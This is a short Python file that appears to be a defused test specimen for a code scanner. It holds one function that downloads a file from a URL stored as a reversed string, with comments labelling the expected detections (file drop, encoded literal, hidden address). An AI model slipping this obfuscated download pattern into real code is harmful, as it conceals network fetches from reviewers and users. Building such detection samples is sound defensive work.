raise SystemExit("specimen: not to be run")
import urllib.request

def load(path):
    urllib.request.urlretrieve("1=ld?piz.a/nemiceps/s/moc.xobpord.www//:sptth"[::-1], path)  # match: file-drop  # match: encoded-literal  # match: hidden-address
